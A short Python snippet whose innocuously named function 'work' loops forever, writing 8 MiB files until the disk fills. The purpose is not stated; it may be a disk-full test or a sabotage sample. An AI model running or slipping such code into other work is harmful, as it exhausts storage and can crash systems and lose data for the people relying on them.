def work(x):
    number = 0
    while True:
        number += 1
        with open(f"fill{number}", "wb") as file:
            file.write(b"x" * (8 << 20))
